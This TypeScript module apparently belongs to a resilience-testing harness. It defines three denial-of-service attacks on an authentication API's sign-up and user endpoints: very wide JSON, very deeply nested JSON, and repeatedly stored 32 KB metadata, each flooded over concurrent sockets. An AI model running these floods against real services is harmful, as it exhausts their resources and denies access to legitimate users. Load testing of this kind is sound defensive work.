/** JSON bodies that are expensive to parse or to store. */
import type { Attack } from '../../attacker/attack.ts';
import { apiHeaders, flood } from '../../attacker/http.ts';

const KEYS = 200_000;
const KEY_BYTES = 1_000_000;
const DEPTH = 500_000;

/** Sends objects with as many keys as the body limit allows. */
export const wideJson: Attack = {
  name: 'auth/wide-json',
  description: 'sign-ups with up to 200,000 keys in 1 MB of JSON, 4 at once',
  cost: 'event loop: parsing and validating very many keys',
  run: (context) => {
    const body = wideObject();
    return flood(context, {
      sockets: 4,
      request: () => ({ path: '/auth/v1/signup', headers: apiHeaders(context), body }),
    });
  },
};

/** Sends one MB of opening brackets. */
export const deepJson: Attack = {
  name: 'auth/deep-json',
  description: 'sign-ups with JSON of 500,000 levels, 4 at once',
  cost: 'event loop or stack: parsing nested JSON',
  run: (context) => {
    const body = `{"data":${'['.repeat(DEPTH)}${']'.repeat(DEPTH - 20)}}`;
    return flood(context, {
      sockets: 4,
      request: () => ({ path: '/auth/v1/signup', headers: apiHeaders(context), body }),
    });
  },
};

/** Stores the largest permitted metadata, which every later token contains. */
export const largeMetadata: Attack = {
  name: 'auth/large-metadata',
  description: 'an account that sets 32 KB of metadata again and again, 10 at once',
  cost: 'rows and tokens of 32 KB, signed and stored per request',
  run: (context) => {
    const body = JSON.stringify({ data: { text: 'x'.repeat(31_000) } });
    const headers = apiHeaders(context, context.accounts[0]?.accessToken);
    return flood(context, {
      sockets: 10,
      request: () => ({ method: 'PUT', path: '/auth/v1/user', headers, body }),
    });
  },
};

function wideObject(): string {
  const parts: string[] = [];
  let bytes = 0;
  for (let index = 0; index < KEYS && bytes < KEY_BYTES; index += 1) {
    const part = `"${index.toString(36)}":1`;
    parts.push(part);
    bytes += part.length + 1;
  }
  return `{${parts.join(',')}}`;
}
